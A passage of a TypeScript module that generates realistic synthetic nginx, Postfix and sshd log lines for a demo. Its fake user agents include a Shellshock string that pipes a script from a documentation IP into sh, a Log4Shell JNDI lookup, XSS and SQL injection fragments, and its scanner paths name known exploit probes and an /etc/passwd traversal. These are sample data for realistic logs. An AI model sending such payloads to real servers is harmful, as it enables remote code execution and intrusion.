/**
 * Realistic log lines for the demo: nginx access logs, Postfix mail logs and sshd
 * auth logs, with the distributions and oddities real servers see (scanners,
 * brute-force bursts, empty and hostile user agents, TLS handshakes on port 80,
 * IPv6 clients, deferred mail that is retried later). Deterministic for a seed.
 *
 * @module
 */
import { mulberry32, sleep } from "@eventstorm/core/internal";
import { COMBINED_FORMAT } from "@eventstorm/source-nginx";

/** nginx's built-in `combined` format.
 *
 * @example
 * ```ts
 * import { NGINX_COMBINED_FORMAT } from "@eventstorm/source-demo";
 * console.log(NGINX_COMBINED_FORMAT.startsWith("$remote_addr")); // true
 * ```
 */
export const NGINX_COMBINED_FORMAT: string = COMBINED_FORMAT;

/** `combined` plus timings, the usual custom format for latency dashboards.
 *
 * @example
 * ```ts
 * import { NGINX_TIMED_FORMAT } from "@eventstorm/source-demo";
 * console.log(NGINX_TIMED_FORMAT.endsWith("$upstream_response_time")); // true
 * ```
 */
export const NGINX_TIMED_FORMAT: string = NGINX_COMBINED_FORMAT +
  " $request_time $upstream_response_time";

/** Options of {@linkcode LogGenerator}. */
export interface LogGeneratorOptions {
  /** Seed of the random sequence; equal seeds and clocks give equal lines. */
  seed?: number;
  /** Clock for the timestamps in lines. */
  now?: () => Date;
  /** Host name in syslog lines (mail and auth logs). */
  hostname?: string;
  /** nginx line format: `combined` (default) or `timed` ({@linkcode NGINX_TIMED_FORMAT}). */
  nginxFormat?: "combined" | "timed";
  /** Local time zone offset in minutes east of UTC for timestamps; the machine's by default. */
  utcOffsetMinutes?: number;
}

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

const BROWSER_AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
  "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:124.0) Gecko/20100101 Firefox/124.0",
];
const BOT_AGENTS = [
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
  "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
  "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
];
const TOOL_AGENTS = [
  "curl/8.5.0",
  "Wget/1.21.4",
  "python-requests/2.31.0",
  "Go-http-client/1.1",
  "Prometheus/2.51.2",
  "kube-probe/1.29",
  "Debian APT-HTTP/1.3 (2.6.1)",
];
const SCANNER_AGENTS = [
  "Mozilla/5.0 zgrab/0.x",
  "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
  "sqlmap/1.8#stable (https://sqlmap.org)",
  "Nmap Scripting Engine",
  "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
];
// What nginx writes for hostile or broken User-Agent headers: `"` and control
// bytes become \xHH escapes, the rest is logged as sent.
const ODD_AGENTS = [
  "<script>alert(1)</script>",
  "() { :; }; /bin/bash -c \\x22curl http://203.0.113.9/x.sh | sh\\x22",
  "${jndi:ldap://198.51.100.7:1389/a}",
  "Mozilla/5.0' OR '1'='1",
  "\\x00\\x01\\x02",
  "Mozilla/5.0 (compatible; \\xE2\\x98\\x83 unicode-bot)",
];
const SCANNER_PATHS = [
  "/wp-login.php",
  "/xmlrpc.php",
  "/.env",
  "/.git/config",
  "/phpmyadmin/index.php",
  "/admin/config.php",
  "/cgi-bin/luci/;stok=/locale",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array",
  "/..%2f..%2f..%2fetc%2fpasswd",
  "/boaform/admin/formLogin",
  "/actuator/health",
];
const BLOG_SLUGS = [
  "zeromq-in-production",
  "why-bson",
  "tail-f-done-right",
  "postfix-queue-ids",
  "ssh-brute-force-stats",
  "nginx-latency-histograms",
  "hello-world",
];
const SEARCH_TERMS = ["deno", "zeromq+pub+sub", "log%20rotation", "caf%C3%A9", "mongodb", "ssh"];
const REFERERS = [
  "https://www.google.com/",
  "https://duckduckgo.com/",
  "https://news.ycombinator.com/",
  "https://t.co/x9QzR2aBcd",
  "https://www.bing.com/search?q=eventstorm",
];
const SSH_INVALID_USERS = [
  "admin",
  "test",
  "user",
  "oracle",
  "postgres",
  "pi",
  "ftp",
  "git",
  "guest",
  "support",
  "ubnt",
  "hadoop",
  "minecraft",
  "1234",
  "",
];
const SSH_USERS = ["alice", "bob", "deploy", "ubuntu"];
const LOCAL_USERS = ["alice", "bob", "carol", "postmaster", "info", "sales"];
const MAIL_DOMAIN = "example.org";
const REMOTE_DOMAINS = [
  "gmail.com",
  "outlook.com",
  "yahoo.com",
  "mail.ru",
  "web.de",
  "protonmail.ch",
  "fastmail.com",
  "example.net",
];
const SPAM_DOMAINS = ["shopdrop.xyz", "bestdeals-now.top", "win-prize.click", "cheap-pills.ru"];

interface Deferred {
  queueId: string;
  from: string;
  size: number;
  to: string;
  relay: string;
  arrived: number;
  due: number;
  attempts: number;
}

/**
 * Makes log lines one at a time. Lines for one connection keep one pid and client
 * address; sshd connections interleave as they do on a busy host.
 *
 * @example
 * ```ts
 * import { LogGenerator } from "@eventstorm/source-demo";
 * const gen = new LogGenerator({ seed: 1, now: () => new Date("2025-03-01T12:00:00Z") });
 * console.log(gen.nginxLine());
 * console.log(gen.postfixTransaction().join("\n"));
 * console.log(gen.sshdLine());
 * ```
 */
export class LogGenerator {
  #random: () => number;
  #now: () => Date;
  #hostname: string;
  #timed: boolean;
  #offset: number | undefined;
  #webClients: string[];
  #scanners: string[];
  #attackers: string[];
  #offices: string[];
  #mailPeers: { name: string; ip: string }[];
  #spamPeers: { name: string; ip: string }[];
  #assetHashes: string[];
  #sshStreams: string[][] = [];
  #deferred: Deferred[] = [];
  #qmgrPid: number;
  #nextPid: number;

  /** Creates a generator; its address pools are drawn from the seed. */
  constructor(options: LogGeneratorOptions = {}) {
    this.#random = mulberry32(options.seed ?? Date.now());
    this.#now = options.now ?? (() => new Date());
    this.#hostname = options.hostname ?? "demo";
    this.#timed = options.nginxFormat === "timed";
    this.#offset = options.utcOffsetMinutes;
    this.#webClients = Array.from(
      { length: 300 },
      (_, i) => i % 12 === 0 ? this.#ipv6() : this.#ipv4(),
    );
    this.#scanners = Array.from({ length: 8 }, () => this.#ipv4());
    this.#attackers = Array.from({ length: 6 }, (_, i) => i === 5 ? this.#ipv6() : this.#ipv4());
    this.#offices = [this.#ipv4(), this.#ipv4(), this.#ipv6()];
    this.#mailPeers = REMOTE_DOMAINS.map((domain) => ({
      name: `mail-${this.#hex(4).toLowerCase()}.${domain}`,
      ip: this.#ipv4(),
    }));
    this.#spamPeers = Array.from({ length: 10 }, (_, i) => ({
      name: i % 3 === 0 ? "unknown" : this.#pick(SPAM_DOMAINS),
      ip: this.#ipv4(),
    }));
    this.#assetHashes = Array.from({ length: 3 }, () => this.#hex(8).toLowerCase());
    this.#qmgrPid = this.#int(900, 2000);
    this.#nextPid = this.#int(20_000, 30_000);
  }

  /** One nginx access log line in the configured format. */
  nginxLine(): string {
    const now = this.#now();
    const r = this.#random();
    let client = this.#webClients[Math.floor(this.#webClients.length * this.#random() ** 2)];
    let user = "-";
    let method = this.#random() < 0.97 ? "GET" : "HEAD";
    let path: string;
    let status: number;
    let bytes: number;
    let referer = "-";
    let agent: string;
    let upstream = true;
    let protocol = this.#weighted([["HTTP/1.1", 72], ["HTTP/2.0", 26], ["HTTP/1.0", 2]]);
    let request: string | undefined;

    if (r < 0.002) {
      // A TLS ClientHello sent to the plain-HTTP port; nginx logs the raw bytes.
      request = Array.from(
        { length: 24 },
        (_, i) => i < 3 ? ["\\x16", "\\x03", "\\x01"][i] : `\\x${this.#hex(2)}`,
      ).join("");
      return this.#nginxFormat(now, client, "-", request, 400, 157, "-", "-", 0.001, "-");
    } else if (r < 0.004) {
      // A connection closed before sending a request.
      return this.#nginxFormat(now, client, "-", "-", 400, 0, "-", "-", 0, "-");
    } else if (r < 0.06) {
      client = this.#pick(this.#scanners);
      path = this.#pick(SCANNER_PATHS);
      method = this.#random() < 0.8 ? "GET" : "POST";
      status = this.#weighted([[404, 85], [403, 10], [400, 3], [200, 2]]);
      bytes = status === 404 ? 153 : status === 403 ? 146 : this.#int(0, 600);
      agent = this.#random() < 0.6 ? this.#pick(SCANNER_AGENTS) : this.#pick(BROWSER_AGENTS);
      protocol = "HTTP/1.1";
      upstream = path.endsWith(".php") && status !== 404;
    } else {
      const kind = this.#weighted([["page", 30], ["asset", 35], ["api", 25], ["misc", 10]]);
      switch (kind) {
        case "page":
          path = this.#weighted([
            ["/", 30],
            [`/blog/${this.#pick(BLOG_SLUGS)}`, 30],
            ["/about", 5],
            ["/pricing", 8],
            [`/search?q=${this.#pick(SEARCH_TERMS)}`, 7],
            ["/login", 10],
            ["/docs/getting-started", 10],
          ]);
          if (path === "/login" && this.#random() < 0.5) method = "POST";
          status = this.#weighted([
            [200, 86],
            [304, 5],
            [301, 3],
            [302, 2],
            [404, 2],
            [500, 1],
            [
              502,
              0.5,
            ],
            [503, 0.3],
            [499, 0.2],
          ]);
          if (path === "/login" && method === "POST") {
            status = this.#weighted([[302, 70], [401, 25], [429, 5]]);
          }
          bytes = this.#int(4_000, 60_000);
          break;
        case "asset": {
          const hash = this.#pick(this.#assetHashes);
          path = this.#weighted([
            [`/static/js/app.${hash}.js`, 25],
            [`/static/css/app.${hash}.css`, 25],
            [`/images/hero-${this.#int(1, 6)}.webp`, 20],
            ["/favicon.ico", 15],
            [`/fonts/inter-${this.#pick(["400", "600"])}.woff2`, 10],
            ["/static/js/app.0ld0ld0l.js", 5],
          ]);
          method = this.#random() < 0.98 ? "GET" : "HEAD";
          status = path.includes("0ld0ld0l")
            ? 404
            : this.#weighted([[200, 60], [304, 37], [206, 3]]);
          bytes = status === 304 ? 0 : status === 404 ? 153 : this.#int(1_000, 900_000);
          upstream = false;
          break;
        }
        case "api":
          path = this.#weighted([
            [`/api/v1/users/${this.#int(1, 5000)}`, 30],
            [`/api/v1/orders?page=${this.#int(1, 40)}&per_page=50`, 25],
            ["/api/v1/events", 25],
            ["/api/v1/session", 10],
            [`/api/v1/items/${this.#hex(6).toLowerCase()}`, 10],
          ]);
          method = path === "/api/v1/events" && this.#random() < 0.7 ? "POST" : this.#weighted([
            ["GET", 70],
            ["POST", 12],
            ["PUT", 8],
            ["DELETE", 4],
            ["OPTIONS", 6],
          ]);
          status = this.#weighted([
            [200, 80],
            [201, method === "POST" ? 8 : 0],
            [204, 2],
            [400, 3],
            [
              401,
              3,
            ],
            [404, 2],
            [429, 1],
            [500, 1],
            [502, 0.6],
            [504, 0.4],
          ]);
          if (method === "OPTIONS") status = 204;
          bytes = status === 204 ? 0 : this.#int(2, 12_000);
          break;
        default:
          path = this.#weighted([["/robots.txt", 40], ["/sitemap.xml", 30], ["/healthz", 30]]);
          status = 200;
          bytes = this.#int(20, 3_000);
          upstream = path === "/healthz";
      }
      if (method === "HEAD") bytes = 0;
      if (status === 304) bytes = 0;
      agent = this.#weighted<() => string>([
        [() => this.#pick(BROWSER_AGENTS), 70],
        [() => this.#pick(BOT_AGENTS), 10],
        [() => this.#pick(TOOL_AGENTS), 14],
        [() => "-", 3],
        [() => "", 1.5],
        [() => this.#pick(ODD_AGENTS), 1.5],
      ])();
      if (path === "/healthz") agent = "kube-probe/1.29";
      if (this.#random() < 0.45) {
        referer = this.#random() < 0.6
          ? `https://www.${MAIL_DOMAIN}${this.#pick(["/", "/blog/why-bson", "/pricing"])}`
          : this.#pick(REFERERS);
      }
      if ((status === 401 || path.startsWith("/api/")) && this.#random() < 0.3) user = "api";
    }
    const tooSlow = status === 499 || status === 504;
    const requestTime = tooSlow
      ? 30 + this.#random() * 30
      : upstream
      ? Math.exp(-3.5 + this.#gaussian())
      : this.#random() * 0.004;
    let upstreamTime = "-";
    if (upstream && status !== 499) {
      const time = Math.max(0, requestTime - this.#random() * 0.002);
      upstreamTime = status === 502 ? "0.000" : time.toFixed(3);
      // A retried upstream: nginx lists one time per attempt.
      if (status === 502 && this.#random() < 0.3) upstreamTime = `0.001, ${time.toFixed(3)}`;
    }
    request = `${method} ${path} ${protocol}`;
    return this.#nginxFormat(
      now,
      client,
      user,
      request,
      status,
      bytes,
      referer,
      agent,
      requestTime,
      upstreamTime,
    );
  }

  #nginxFormat(
    now: Date,
    client: string,
    user: string,
    request: string,
    status: number,
    bytes: number,
    referer: string,
    agent: string,
    requestTime: number,
    upstreamTime: string,
  ): string {
    const line = `${client} - ${user} [${this.#nginxTime(now)}] "${request}" ${status} ${bytes} ` +
      `"${referer}" "${agent}"`;
    return this.#timed ? `${line} ${requestTime.toFixed(3)} ${upstreamTime}` : line;
  }

  /**
   * The lines of one piece of mail activity, in order: a delivery (local or
   * remote), a rejected client (`NOQUEUE`), or the retry of mail deferred earlier
   * once its time has come. Lines end at the current time.
   */
  postfixTransaction(): string[] {
    const nowMs = this.#now().getTime();
    const due = this.#deferred.findIndex((d) => d.due <= nowMs);
    if (due >= 0) return this.#retry(this.#deferred.splice(due, 1)[0], nowMs);
    const kind = this.#weighted([["inbound", 45], ["outbound", 30], ["reject", 25]]);
    if (kind === "reject") return this.#reject(nowMs);
    return kind === "inbound" ? this.#inbound(nowMs) : this.#outbound(nowMs);
  }

  #inbound(nowMs: number): string[] {
    const peer = this.#pick(this.#mailPeers);
    const smtpd = this.#pid();
    const queueId = this.#queueId();
    const client = `${peer.name}[${peer.ip}]`;
    const from = `<${this.#mailbox(peer.name.replace(/^mail-[0-9a-f]+\./, ""))}>`;
    const recipients = this.#random() < 0.85 ? 1 : this.#int(2, 3);
    const size = this.#int(1_500, 250_000);
    const lines: [number, string, string][] = [];
    const at = this.#clock();
    lines.push([at(0), `postfix/smtpd[${smtpd}]`, `connect from ${client}`]);
    lines.push([at(0.3), `postfix/smtpd[${smtpd}]`, `${queueId}: client=${client}`]);
    lines.push([
      at(0.1),
      `postfix/cleanup[${this.#poolPid("cleanup")}]`,
      `${queueId}: message-id=<${this.#hex(16).toLowerCase()}@${peer.name}>`,
    ]);
    lines.push([
      at(0.05),
      `postfix/qmgr[${this.#qmgrPid}]`,
      `${queueId}: from=${from}, size=${size}, nrcpt=${recipients} (queue active)`,
    ]);
    lines.push([
      at(0.05),
      `postfix/smtpd[${smtpd}]`,
      `disconnect from ${client} ehlo=1 mail=1 rcpt=${recipients} data=1 quit=1 commands=${
        4 + recipients
      }`,
    ]);
    const local = this.#poolPid("local");
    const used = new Set<string>();
    for (let i = 0; i < recipients; i++) {
      let user = this.#pick(LOCAL_USERS);
      while (used.has(user)) user = this.#pick(LOCAL_USERS);
      used.add(user);
      const delay = this.#random() * 0.3;
      const alias = user === "postmaster" ? `, orig_to=<postmaster@${MAIL_DOMAIN}>` : "";
      const to = user === "postmaster" ? "alice" : user;
      lines.push([
        at(delay),
        `postfix/local[${local}]`,
        `${queueId}: to=<${to}@${MAIL_DOMAIN}>${alias}, relay=local, ${
          this.#delays(0.5 + delay)
        }, dsn=2.0.0, status=sent (delivered to mailbox)`,
      ]);
    }
    lines.push([at(0.01), `postfix/qmgr[${this.#qmgrPid}]`, `${queueId}: removed`]);
    return this.#syslog(lines, nowMs);
  }

  #outbound(nowMs: number): string[] {
    const queueId = this.#queueId();
    const sender = this.#pick(SSH_USERS.slice(0, 3));
    const lines: [number, string, string][] = [];
    const at = this.#clock();
    if (this.#random() < 0.5) {
      lines.push([
        at(0),
        `postfix/pickup[${this.#poolPid("pickup")}]`,
        `${queueId}: uid=${1000 + SSH_USERS.indexOf(sender)} from=<${sender}>`,
      ]);
    } else {
      const smtpd = this.#pid();
      const client = `unknown[${this.#pick(this.#offices.slice(0, 2))}]`;
      lines.push([at(0), `postfix/smtpd[${smtpd}]`, `connect from ${client}`]);
      lines.push([
        at(0.4),
        `postfix/smtpd[${smtpd}]`,
        `${queueId}: client=${client}, sasl_method=PLAIN, sasl_username=${sender}`,
      ]);
    }
    const domain = this.#pick(REMOTE_DOMAINS);
    const from = `${sender}@${MAIL_DOMAIN}`;
    const to = this.#mailbox(domain);
    const size = this.#int(800, 90_000);
    lines.push([
      at(0.1),
      `postfix/cleanup[${this.#poolPid("cleanup")}]`,
      `${queueId}: message-id=<${this.#date(nowMs)}.${this.#hex(6)}@${MAIL_DOMAIN}>`,
    ]);
    lines.push([
      at(0.05),
      `postfix/qmgr[${this.#qmgrPid}]`,
      `${queueId}: from=<${from}>, size=${size}, nrcpt=1 (queue active)`,
    ]);
    const mx = `mx${this.#int(1, 3)}.${domain}`;
    const relay = `${mx}[${this.#ipv4()}]:25`;
    const outcome = this.#weighted([["sent", 85], ["deferred", 10], ["bounced", 5]]);
    const took = outcome === "deferred" ? this.#random() * 30 : 0.3 + this.#random() * 2;
    const smtp = `postfix/smtp[${this.#poolPid("smtp")}]`;
    const head = `${queueId}: to=<${to}>, relay=${relay}, ${this.#delays(took + 0.2)}`;
    if (outcome === "sent") {
      lines.push([
        at(took),
        smtp,
        `${head}, dsn=2.0.0, status=sent (250 2.0.0 OK  ${Math.floor(nowMs / 1000)} ${
          this.#hex(10).toLowerCase()
        }.${this.#int(100, 999)} - gsmtp)`,
      ]);
      lines.push([at(0.01), `postfix/qmgr[${this.#qmgrPid}]`, `${queueId}: removed`]);
    } else if (outcome === "deferred") {
      lines.push([at(took), smtp, `${head.replace(relay, "none")}, ${this.#deferral(mx)}`]);
      this.#defer({ queueId, from, size, to, relay, arrived: nowMs, due: 0, attempts: 1 }, nowMs);
    } else {
      lines.push([
        at(took),
        smtp,
        `${head}, dsn=5.1.1, status=bounced (host ${relay.replace(/:25$/, "")} said: ` +
        `550 5.1.1 <${to}>: Recipient address rejected: User unknown (in reply to RCPT TO command))`,
      ]);
      lines.push(...this.#bounceNotice(queueId, from, at, nowMs));
      lines.push([at(0.01), `postfix/qmgr[${this.#qmgrPid}]`, `${queueId}: removed`]);
    }
    return this.#syslog(lines, nowMs);
  }

  #retry(mail: Deferred, nowMs: number): string[] {
    const at = this.#clock();
    const waited = (nowMs - mail.arrived) / 1000;
    const lines: [number, string, string][] = [[
      at(0),
      `postfix/qmgr[${this.#qmgrPid}]`,
      `${mail.queueId}: from=<${mail.from}>, size=${mail.size}, nrcpt=1 (queue active)`,
    ]];
    const smtp = `postfix/smtp[${this.#poolPid("smtp")}]`;
    const outcome = mail.attempts >= 3 ? "bounced" : this.#random() < 0.7 ? "sent" : "deferred";
    const took = 0.5 + this.#random();
    const delays = `delay=${fmt(waited + took)}, delays=${fmt(waited)}/0.01/${fmt(took / 2)}/${
      fmt(took / 2)
    }`;
    if (outcome === "deferred") {
      const mx = mail.relay.replace(/\[.*$/, "");
      lines.push([
        at(took),
        smtp,
        `${mail.queueId}: to=<${mail.to}>, relay=none, ${delays}, ${this.#deferral(mx)}`,
      ]);
      mail.attempts++;
      this.#defer(mail, nowMs);
      return this.#syslog(lines, nowMs);
    }
    if (outcome === "sent") {
      lines.push([
        at(took),
        smtp,
        `${mail.queueId}: to=<${mail.to}>, relay=${mail.relay}, ${delays}, dsn=2.0.0, ` +
        `status=sent (250 2.0.0 Ok: queued as ${this.#hex(10)})`,
      ]);
    } else {
      lines.push([
        at(took),
        smtp,
        `${mail.queueId}: to=<${mail.to}>, relay=none, ${delays}, dsn=4.4.1, ` +
        `status=bounced (delivery temporarily suspended: connect to ${
          mail.relay.replace(/:25$/, "")
        }:25: Connection timed out)`,
      ]);
      lines.push(...this.#bounceNotice(mail.queueId, mail.from, at, nowMs));
    }
    lines.push([at(0.01), `postfix/qmgr[${this.#qmgrPid}]`, `${mail.queueId}: removed`]);
    return this.#syslog(lines, nowMs);
  }

  #defer(mail: Deferred, nowMs: number): void {
    mail.due = nowMs + this.#int(60, 300) * 1000;
    // Bounded: a generator driven by a frozen clock must not hoard mail forever.
    if (this.#deferred.length < 100) this.#deferred.push(mail);
  }

  #deferral(mx: string): string {
    return this.#weighted([
      [`dsn=4.4.1, status=deferred (connect to ${mx}[${this.#ipv4()}]:25: Connection refused)`, 40],
      [
        `dsn=4.4.1, status=deferred (connect to ${mx}[${this.#ipv4()}]:25: Connection timed out)`,
        30,
      ],
      [
        `dsn=4.7.1, status=deferred (host ${mx}[${this.#ipv4()}] said: 451 4.7.1 Greylisted, ` +
        `please try again later (in reply to RCPT TO command))`,
        30,
      ],
    ]);
  }

  #bounceNotice(
    queueId: string,
    sender: string,
    at: (seconds: number) => number,
    nowMs: number,
  ): [number, string, string][] {
    const notice = this.#queueId();
    const bounce = this.#poolPid("bounce");
    return [
      [
        at(0.02),
        `postfix/cleanup[${this.#poolPid("cleanup")}]`,
        `${notice}: message-id=<${this.#date(nowMs)}.${notice}@${this.#hostname}.${MAIL_DOMAIN}>`,
      ],
      [
        at(0.01),
        `postfix/bounce[${bounce}]`,
        `${queueId}: sender non-delivery notification: ${notice}`,
      ],
      [
        at(0.01),
        `postfix/qmgr[${this.#qmgrPid}]`,
        `${notice}: from=<>, size=${this.#int(2_500, 9_000)}, nrcpt=1 (queue active)`,
      ],
      [
        at(0.1),
        `postfix/local[${this.#poolPid("local")}]`,
        `${notice}: to=<${sender}>, relay=local, ${
          this.#delays(0.15)
        }, dsn=2.0.0, status=sent (delivered to mailbox)`,
      ],
      [at(0.01), `postfix/qmgr[${this.#qmgrPid}]`, `${notice}: removed`],
    ];
  }

  #reject(nowMs: number): string[] {
    const peer = this.#pick(this.#spamPeers);
    const smtpd = this.#pid();
    const client = `${peer.name}[${peer.ip}]`;
    const spamDomain = peer.name === "unknown" ? this.#pick(SPAM_DOMAINS) : peer.name;
    const from = `${this.#pick(["promo", "noreply", "info", "winner", "admin"])}@${spamDomain}`;
    const to = `${this.#pick(LOCAL_USERS)}@${MAIL_DOMAIN}`;
    const helo = peer.name === "unknown" ? `${this.#hex(6).toLowerCase()}.localdomain` : peer.name;
    const tail = `from=<${from}> to=<${to}> proto=ESMTP helo=<${helo}>`;
    const reason = this.#weighted([
      [
        `554 5.7.1 Service unavailable; Client host [${peer.ip}] blocked using zen.spamhaus.org; ` +
        `https://www.spamhaus.org/query/ip/${peer.ip}; ${tail}`,
        50,
      ],
      [`450 4.7.1 <${helo}>: Helo command rejected: Host not found; ${tail}`, 25],
      [
        `550 5.1.1 <nobody${this.#int(1, 99)}@${MAIL_DOMAIN}>: Recipient address rejected: User ` +
        `unknown in local recipient table; ${tail.replace(to, `nobody@${MAIL_DOMAIN}`)}`,
        25,
      ],
    ]);
    const at = this.#clock();
    return this.#syslog([
      [at(0), `postfix/smtpd[${smtpd}]`, `connect from ${client}`],
      [at(0.5), `postfix/smtpd[${smtpd}]`, `NOQUEUE: reject: RCPT from ${client}: ${reason}`],
      [at(0.2), `postfix/smtpd[${smtpd}]`, `lost connection after RCPT from ${client}`],
      [
        at(0.01),
        `postfix/smtpd[${smtpd}]`,
        `disconnect from ${client} ehlo=1 mail=1 rcpt=0/1 commands=2/3`,
      ],
    ], nowMs);
  }

  /**
   * One sshd line for `/var/log/auth.log`. Connections span several lines (an
   * invalid user, then its failed password, then the disconnect); several are open
   * at once, so their lines interleave.
   */
  sshdLine(): string {
    if (this.#sshStreams.length === 0 || (this.#sshStreams.length < 4 && this.#random() < 0.35)) {
      this.#sshStreams.push(this.#sshConnection());
    }
    const index = Math.floor(this.#random() * this.#sshStreams.length);
    const stream = this.#sshStreams[index];
    const line = stream.shift()!;
    if (stream.length === 0) this.#sshStreams.splice(index, 1);
    return this.#syslog([[0, "", line]], this.#now().getTime())[0];
  }

  #sshConnection(): string[] {
    const pid = this.#pid();
    const sshd = `sshd[${pid}]`;
    const port = this.#int(1024, 65535);
    const kind = this.#weighted([
      ["bruteRoot", 30],
      ["invalidUser", 25],
      ["publickey", 15],
      ["password", 8],
      ["typo", 5],
      ["probe", 17],
    ]);
    const out = (message: string) => `${sshd}: ${message}`;
    switch (kind) {
      case "bruteRoot": {
        const ip = this.#pick(this.#attackers);
        const tries = this.#int(1, 6);
        const lines = Array.from(
          { length: tries },
          () => out(`Failed password for root from ${ip} port ${port} ssh2`),
        );
        lines.push(
          tries === 6
            ? out(
              `error: maximum authentication attempts exceeded for root from ${ip} port ${port} ssh2 [preauth]`,
            )
            : out(`Connection closed by authenticating user root ${ip} port ${port} [preauth]`),
        );
        return lines;
      }
      case "invalidUser": {
        const ip = this.#pick(this.#attackers);
        const user = this.#pick(SSH_INVALID_USERS);
        const lines = [out(`Invalid user ${user} from ${ip} port ${port}`)];
        for (let i = this.#int(1, 3); i > 0; i--) {
          lines.push(out(`Failed password for invalid user ${user} from ${ip} port ${port} ssh2`));
        }
        lines.push(out(`Connection closed by invalid user ${user} ${ip} port ${port} [preauth]`));
        return lines;
      }
      case "publickey":
      case "password":
      case "typo": {
        const user = this.#pick(SSH_USERS);
        const ip = this.#random() < 0.8 ? this.#pick(this.#offices) : this.#ipv4();
        const uid = 1000 + SSH_USERS.indexOf(user);
        const lines: string[] = [];
        if (kind === "typo") {
          lines.push(out(`Failed password for ${user} from ${ip} port ${port} ssh2`));
        }
        lines.push(
          kind === "publickey"
            ? out(
              `Accepted publickey for ${user} from ${ip} port ${port} ssh2: ${
                this.#pick(["ED25519", "ED25519", "RSA", "ECDSA"])
              } SHA256:${this.#base64(43)}`,
            )
            : out(`Accepted password for ${user} from ${ip} port ${port} ssh2`),
        );
        lines.push(
          out(`pam_unix(sshd:session): session opened for user ${user}(uid=${uid}) by (uid=0)`),
        );
        lines.push(out(`Received disconnect from ${ip} port ${port}:11: disconnected by user`));
        lines.push(out(`Disconnected from user ${user} ${ip} port ${port}`));
        lines.push(out(`pam_unix(sshd:session): session closed for user ${user}`));
        return lines;
      }
      default: {
        const ip = this.#pick(this.#scanners);
        return [this.#weighted([
          [out(`Connection closed by ${ip} port ${port} [preauth]`), 50],
          [out(`Connection reset by ${ip} port ${port} [preauth]`), 20],
          [out(`banner exchange: Connection from ${ip} port ${port}: invalid format`), 15],
          [out(`Did not receive identification string from ${ip} port ${port}`), 15],
        ])];
      }
    }
  }

  // Lines as [seconds after the first line, program, message], stamped so that the
  // last one is now.
  #syslog(lines: [number, string, string][], nowMs: number): string[] {
    const last = lines[lines.length - 1][0];
    return lines.map(([seconds, program, message]) => {
      const time = this.#local(new Date(nowMs - (last - seconds) * 1000));
      const stamp = `${MONTHS[time.getUTCMonth()]} ${String(time.getUTCDate()).padStart(2, " ")} ${
        hms(time)
      }`;
      return program
        ? `${stamp} ${this.#hostname} ${program}: ${message}`
        : `${stamp} ${this.#hostname} ${message}`;
    });
  }

  #clock(): (seconds: number) => number {
    let elapsed = 0;
    return (seconds) => elapsed += seconds;
  }

  #delays(total: number): string {
    const a = total * 0.6, b = 0.01, c = total * 0.1;
    return `delay=${fmt(total)}, delays=${fmt(a)}/${fmt(b)}/${fmt(c)}/${
      fmt(Math.max(0, total - a - b - c))
    }`;
  }

  #nginxTime(date: Date): string {
    const offset = this.#offsetMinutes(date);
    const t = this.#local(date);
    const sign = offset >= 0 ? "+" : "-";
    const abs = Math.abs(offset);
    const zone = `${sign}${pad(Math.floor(abs / 60))}${pad(abs % 60)}`;
    return `${pad(t.getUTCDate())}/${MONTHS[t.getUTCMonth()]}/${t.getUTCFullYear()}:${
      hms(t)
    } ${zone}`;
  }

  // A Date whose UTC fields show local wall-clock time.
  #local(date: Date): Date {
    return new Date(date.getTime() + this.#offsetMinutes(date) * 60_000);
  }

  #offsetMinutes(date: Date): number {
    return this.#offset ?? -date.getTimezoneOffset();
  }

  #date(nowMs: number): string {
    const t = new Date(nowMs);
    return `${t.getUTCFullYear()}${pad(t.getUTCMonth() + 1)}${pad(t.getUTCDate())}${
      hms(t).replaceAll(":", "")
    }`;
  }

  #pools = new Map<string, number[]>();

  // Postfix reuses long-lived worker processes; a few pids per service look right.
  #poolPid(service: string): number {
    let pool = this.#pools.get(service);
    if (!pool) {
      pool = Array.from({ length: service === "pickup" ? 1 : 3 }, () => this.#pid());
      this.#pools.set(service, pool);
    }
    return this.#pick(pool);
  }

  #pid(): number {
    this.#nextPid += this.#int(1, 40);
    if (this.#nextPid > 4_194_000) this.#nextPid = 300;
    return this.#nextPid;
  }

  // Postfix's short queue ids: hex of the time and inode, 10 or 11 characters.
  #queueId(): string {
    return this.#hex(this.#random() < 0.85 ? 10 : 11);
  }

  #mailbox(domain: string): string {
    const first = this.#pick([
      "john",
      "maria",
      "li",
      "ahmed",
      "olga",
      "k.tanaka",
      "news",
      "billing",
    ]);
    return this.#random() < 0.5 ? `${first}@${domain}` : `${first}.${this.#int(1, 99)}@${domain}`;
  }

  #ipv4(): string {
    for (;;) {
      const a = this.#int(1, 223);
      // Skip private, loopback, link-local, CGNAT and documentation ranges.
      if ([10, 100, 127, 169, 172, 192, 198, 203].includes(a)) continue;
